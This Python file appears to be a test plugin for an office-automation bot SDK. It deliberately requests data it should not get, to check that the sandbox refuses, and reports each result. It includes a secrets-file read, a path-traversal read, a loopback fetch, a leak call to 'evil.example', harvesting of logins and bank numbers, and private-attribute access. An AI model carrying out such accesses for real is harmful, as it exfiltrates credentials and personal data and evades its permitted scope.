"""Asks the office for what it has no right to, and tells what it was given."""

from collections.abc import Iterable
from datetime import timedelta
from typing import Any

from officebot.sdk import Address, Duty, MessageRef, NoteItem, Proposal, SeenMail, say

UNSEEN = MessageRef("director", "INBOX", 7, 4711, "the director's mail")


def observe(office: Any, trigger: Any, settings: Any) -> Any:
    now = trigger.now
    mail = SeenMail(ref=UNSEEN, subject="", sender=Address("", ""), received=now, state="handled", verdict={})
    questions: dict[str, Any] = {
        "mails": lambda: office.mails(now - timedelta(days=9), now),
        "papers": lambda: office.papers(mail),
        "items": lambda: office.items("deadline"),
        "all items": lambda: office.items(),
        "workbook": lambda: office.workbook("wages"),
        "calendars": lambda: office.calendars(),
        "password": lambda: office.read_file("secrets/mailbox"),
        "ledger": lambda: office.read_file("incoming/../state/ledger.db"),
        "settings": lambda: office.read_file("office.toml"),
        "desk": lambda: office.desk(now),
        "rows": lambda: office.stored_rows("mails", now),
        "health": lambda: office.health(),
        "remembered": lambda: office.remembered("approvals", "x"),
        "loopback": lambda: office.fetch("https://127.0.0.1/"),
        "undeclared": lambda: office.fetch("https://evil.example/?leak=1"),
        "login": lambda: [one.login for one in office.facts.people.all if one.login],
        "account": lambda: [one.iban for one in office.facts.contacts.all if one.iban],
        "method": lambda: office._ask("__class__", [], {}),
        "private": lambda: office._ask("_ledger", [], {}),
    }
    try:
        return f"given: {questions[trigger.key]()!r}"
    except Exception as refused:  # noqa: BLE001 - told, whatever it is
        return f"refused: {refused}"


def decide(told: Any, settings: Any) -> Iterable[Proposal]:
    note = NoteItem(item_kind="asks_for_what_it_may_not", key="1", title="x")
    yield Proposal(key="1", title=say("{told}", told=told), actions=(note,))


DUTY: Duty[Any, Any] = Duty(name="asks_for_what_it_may_not", title=say("Asks"), observe=observe, decide=decide)
